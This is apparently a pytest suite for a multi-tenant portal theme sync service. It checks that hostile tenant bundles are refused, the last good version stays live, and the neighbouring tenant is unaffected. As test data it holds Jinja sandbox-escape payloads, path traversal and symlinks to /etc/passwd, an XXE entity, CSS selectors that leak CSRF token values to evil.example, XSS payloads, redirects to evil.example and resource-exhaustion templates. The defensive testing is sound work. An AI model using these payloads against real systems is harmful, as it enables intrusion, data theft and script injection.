"""Whatever a tenant commits, the last good version stays, its author reads file and cure, and the neighbour notices nothing.

Hostile inputs 1, 2, 4, 5, 7 to 23: each is pushed to a repository that a running sync follows, with the product's own themes.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Mapping
from dataclasses import dataclass

import psutil
import pytest
import pytest_asyncio

from tests.support.bundles import Remote, git
from tests.support.installation import ROOT
from tests.support.sync_service import Service

LOGO = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9"/></svg>'
TOML = 'title = "Test"\ncontact = "mailto:help@example.org"\n[brand]\nstylesheets = ["css/tenant.css"]\n'
GOOD = {"tenant.toml": TOML, "static/logo.svg": LOGO, "static/favicon.svg": LOGO, "static/css/tenant.css": "h1 { color: teal }\n"}
MEMORY = 1_500_000_000
"""Bytes that the sync and all its children may have at any time."""

Files = Mapping[str, str | bytes | None]


@dataclass
class Attack:
    """Two tenants of one sync: one sends what it likes, the other only wants its portal."""

    service: Service
    remote: Remote
    neighbour: Remote

    async def push(self, files: Files) -> str:
        """Push the good bundle with these files in it, and see it refused; answers what its author reads."""
        live = self.service.store.live("test")
        self.clear()
        return await self.refused(self.remote.push({**GOOD, **files}), live)

    def clear(self) -> None:
        """Take everything out of the working copy."""
        for path in git(self.remote.work, "ls-files", "-z").split("\0")[:-1]:
            (self.remote.work / path).unlink(missing_ok=True)

    async def refused(self, commit: str, live: str | None) -> str:
        """What is said of a commit; whatever that is, what was live still is."""
        status = await self.service.taken(commit)
        assert status.error, "it went live"
        assert (self.service.store.live("test"), status.snapshot) == (live, live)
        assert not any(str(path) in str(status.findings) for path in (self.service.state, ROOT))
        return "\n".join(str(finding) for finding in status.findings)


def template(content: str) -> dict[str, str]:
    """The landing page with something in it."""
    return {"templates/landing.html": f'{{% extends "theme:landing.html" %}}\n{{% block more %}}\n{content}\n{{% endblock %}}\n'}


LANDING = "templates/landing.html:3"
CASES: dict[str, tuple[Files, str]] = {
    "7: nested loops": (template("{% for a in range(999) %}{% for b in range(999) %}x{% endfor %}{% endfor %}"), LANDING),
    "7: lipsum": (template("{{ lipsum(n=100000) }}"), "'lipsum' is not defined"),
    "8: a number that is huge before anything runs": (template("{% if false %}{{ 7**30000000 }}{% endif %}x{{ portal.nam }}"), LANDING),
    "8: the same where it runs": (template("{{ 7**30000000 }}"), "'**' is not available"),
    "9: a text that is huge": (template("{{ 'a' * 2000000000 }}"), "numbers up to"),
    "9: a text that doubles": (template("{% set a = namespace(t='x') %}"), "'namespace' is not defined"),
    "10: a page that includes itself": ({"templates/landing.html": '{% include "landing.html" %}'}, "comes back to itself"),
    "10: a page that extends itself": ({"templates/landing.html": '{% extends "landing.html" %}'}, "comes back to itself"),
    "10: two that include each other": (
        {"templates/a.html": '{% include "b.html" %}', "templates/b.html": '{% include "a.html" %}'},
        "comes back to itself",
    ),
    "11: the class of a text": (template("{{ ''.__class__ }}"), LANDING),
    "11: the same by its index": (template("{{ ''['__class__'] }}"), LANDING),
    "11: the class of a view": (template("{{ portal.__class__.__mro__ }}"), LANDING),
    "12: the filter attr": (template("{{ ''|attr('__class__') }}"), "No filter named 'attr'"),
    "12: a format string": (template("{{ '{0.__class__}'.format(portal) }}"), LANDING),
    "12: the filter format": (template("{{ '%s'|format(portal) }}"), "No filter named 'format'"),
    "12: map with an attribute": (template("{{ [portal]|map(attribute='__class__')|list }}"), LANDING),
    "13: cycler": (template("{{ cycler.__init__.__globals__ }}"), LANDING),
    "13: joiner": (template("{{ joiner.__init__ }}"), LANDING),
    "13: the globals of a function": (template("{{ t.__globals__ }}"), LANDING),
    "13: the globals of a macro": (template("{% macro m() %}{% endmacro %}{{ m.__globals__ }}"), LANDING),
    **{
        f"14: {name}": (template(f"{{{{ {name} }}}}"), f"'{name}' is not defined")
        for name in ("request", "settings", "handler", "spawner", "config", "authenticator", "services", "static_url")
    },
    "14: the settings of the user": (template("{{ user.settings }}"), LANDING),
    "15: a path above": (template('{% include "../../../etc/passwd" %}'), "can't be the name of a template"),
    "15: an absolute path": (template('{% include "/etc/passwd" %}'), "can't be the name of a template"),
    "15: another tenant's file": (template('{% include "neighbour/tenant.toml" %}'), "There is no template"),
    "15: a name that is computed": (template("{% include portal.name %}"), "named by a text in quotes"),
    "16: braces": ({"static/{{ x }}.txt": "x"}, "This file name can't be used."),
    "16: a line break": ({"static/a\nb.txt": "x"}, "This file name can't be used."),
    "16: a dash in front": ({"static/-rf.txt": "x"}, "This file name can't be used."),
    "17: no UTF-8": ({"templates/landing.html": b"fine\nno \xff\xfe"}, "templates/landing.html:2:4: This isn't UTF-8 text."),
    "17: a byte order mark": ({"tenant.toml": "\ufeff" + TOML}, "tenant.toml:1:1: The character U+FEFF is not allowed"),
    "17: a change of direction": ({"static/css/tenant.css": "a{}\n/* \u202e */"}, "static/css/tenant.css:2:4: The character U+202E"),
    "18: no TOML": ({"tenant.toml": "title = \n"}, "tenant.toml:1:9: This isn't TOML"),
    "18: a key twice": ({"tenant.toml": 'title = "A"\ntitle = "B"\n'}, "tenant.toml:2"),
    "18: nested beyond reason": ({"tenant.toml": f"title = {'[' * 50_000}"}, "tenant.toml"),
    "19: an unknown key": (
        {"tenant.toml": 'taglime = "x"\n' + TOML},
        "tenant.toml:1:1: There is no key 'taglime'. Did you mean 'tagline'?",
    ),
    "19: the operator's key": ({"tenant.toml": 'host = "evil.example"\n' + TOML}, "'host' is not a tenant's to set"),
    "20: an import": ({"static/css/tenant.css": "@import url(https://evil.example/x.css);"}, "'@import' is not allowed"),
    "20: an address": ({"static/css/tenant.css": "a { background: url(//evil.example/x) }"}, "leads out of the bundle"),
    "20: an address by escapes": ({"static/css/tenant.css": "a { background: \\75rl(https://evil.example/x) }"}, "leads out of the bundle"),
    "20: a selector that tells a value": (
        {"static/css/tenant.css": "input[name=_xsrf][value^=a] { background: url(https://evil.example/a) }"},
        "leads out of the bundle",
    ),
    "20: the same with a file of its own": (
        {"static/css/tenant.css": "input[value^=a] { background: url(../logo.svg) }"},
        "tells what stands in a field",
    ),
    "21: a script in a drawing": ({"static/logo.svg": LOGO.replace("<path", "<script>alert(1)</script><path")}, "may not hold <script>"),
    "21: a handler in a drawing": ({"static/logo.svg": LOGO.replace("<path", "<path onload='alert(1)'")}, "event handler 'onload'"),
    "21: an entity in a drawing": ({"static/logo.svg": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>{LOGO}'}, "entities"),
    "21: HTML that is called a picture": ({"static/x.png": "<script>alert(1)</script>"}, "isn't what '.png' promises"),
    "21: a script file": ({"static/x.js": "alert(1)"}, "A bundle has no scripts"),
    "22: the filter safe": (template("{{ '<b>'|safe }}"), "No filter named 'safe'"),
    "22: escaping turned off": (template("{% autoescape false %}{{ user }}{% endautoescape %}"), "Escaping can't be turned off"),
    "22: Markup": (template("{{ Markup('<b>') }}"), "'Markup' is not defined"),
    "23: a form that leads elsewhere": (template('<form action="https://evil.example/" method="post"></form>'), "may not be sent to"),
    "23: base": (template('<base href="https://evil.example/">'), "<base> is not allowed"),
    "23: refresh": (template('<meta http-equiv="refresh" content="0;url=https://evil.example/">'), "http-equiv"),
    "23: a script in the page": (template("<script>alert(1)</script>"), "A script in the page is not allowed"),
    "23: a script put together": (template("<scr{{ '' }}ipt>alert(1)</scr{{ '' }}ipt>"), "A script in the page is not allowed"),
    "23: a handler": (template('<p onclick="alert(1)">x</p>'), "event handler 'onclick'"),
    "23: a link that runs": (template('<a href="java&#115;cript:alert(1)">x</a>'), "is not allowed"),
}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def attack(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Attack]:
    root = tmp_path_factory.mktemp("hostile")
    remotes = {}
    service = Service(root, themes=ROOT / "themes")
    commits = {}
    for name in ("test", "neighbour"):
        (root / name).mkdir()
        remotes[name] = Remote(root / name)
        commits[name] = remotes[name].push(GOOD)
        service.follow(name, str(remotes[name].path))
    await service.start()
    for name, commit in commits.items():
        await service.live(commit, name)
    yield Attack(service, remotes["test"], remotes["neighbour"])
    service.stop()


pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest.mark.parametrize("case", CASES)
async def test_a_hostile_bundle_is_refused_with_its_file_and_a_cure(attack: Attack, case: str) -> None:
    files, expected = CASES[case]

    assert expected in await attack.push(files)


async def test_links_are_refused(attack: Attack) -> None:
    """1 and 2."""
    live = attack.service.store.live("test")
    (attack.remote.work / "static/passwd.txt").symlink_to("/etc/passwd")
    (attack.remote.work / "templates").mkdir(exist_ok=True)
    (attack.remote.work / "static/etc").symlink_to("/etc")
    said = await attack.refused(attack.remote.commit(), live)
    assert "static/passwd.txt: This is a symbolic link." in said
    assert "static/etc: This is a symbolic link." in said


async def test_what_is_too_much_is_refused_in_bounded_memory_while_the_neighbour_goes_on(attack: Attack) -> None:
    """4 and 5: a file of 200 MB, which is 200 KB on its way, and 100,000 files."""
    live = attack.service.store.live("test")
    blob = attack.remote.work / "static/huge.png"
    with blob.open("wb") as file:
        file.truncate(200_000_000)
    big = attack.remote.commit()
    peak, said = 0, ""
    while not said:
        peak = max(peak, memory(attack.service.pid))
        if attack.service.status().candidate == big:
            said = await attack.refused(big, live)
        await asyncio.sleep(0.02)
    assert "static/huge.png: This file has 200,000,000 bytes; 5,000,000 are allowed." in said
    assert peak < MEMORY
    blob.unlink()

    lines = "".join(f"M 100644 inline static/{number}.txt\ndata 1\nx\n" for number in range(100_000))
    stream = f"commit refs/heads/main\ncommitter T <t@example.org> 1700000000 +0000\ndata 1\nx\n{lines}"
    git(attack.remote.path, "fast-import", "--quiet", "--force", content=stream)
    many = git(attack.remote.path, "rev-parse", "refs/heads/main").strip()
    news = attack.neighbour.push({"static/css/tenant.css": "h1 { color: navy }"})
    await attack.service.live(news, "neighbour")
    assert "entries" in await attack.refused(many, live) or "files" in str(attack.service.status().findings)


async def test_after_all_that_a_good_bundle_goes_live(attack: Attack) -> None:
    attack.clear()
    commit = attack.remote.push({**GOOD, "static/css/tenant.css": "h1 { color: olive }\n"})

    assert (await attack.service.live(commit)).error is None
    assert (await attack.service.live(git(attack.neighbour.work, "rev-parse", "HEAD").strip(), "neighbour")).error is None


def memory(pid: int) -> int:
    """Resident bytes of a process and all below it."""
    total = 0
    for process in (psutil.Process(pid), *psutil.Process(pid).children(recursive=True)):
        try:
            total += process.memory_info().rss
        except psutil.NoSuchProcess:
            continue
    return total
